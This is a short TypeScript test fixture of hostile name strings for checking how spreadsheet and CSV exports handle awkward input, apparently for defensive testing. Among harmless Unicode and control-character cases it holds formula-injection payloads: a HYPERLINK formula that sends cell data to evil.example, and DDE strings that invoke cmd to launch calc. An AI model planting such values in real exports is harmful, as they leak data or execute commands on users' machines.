/** Names that do what a spreadsheet, a file of comma-separated values or a workbook could stumble over. */
export const hostileNames = {
  formula: '=HYPERLINK("http://evil.example?"&A1,"Click")',
  plus: '+420 123',
  minus: "-2+3+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd|',
  spaced: '  =1+1',
  fullWidth: '＝1+1',
  tab: '\t=1+1',
  behindSemicolon: 'Ann;=1+1',
  behindLineBreak: 'Ann\r\n=1+1',
  quotes: 'Ann "the boss", Ltd.',
  emoji: 'Zoë 👩‍👩‍👧‍👦',
  chinese: '欧阳（小明）',
  markup: '<b>&amp;]]></b>',
  escape: '_x0041_',
  bell: 'Ann\u0007 Bo',
  reversing: 'Ann \u202eoB',
} as const;
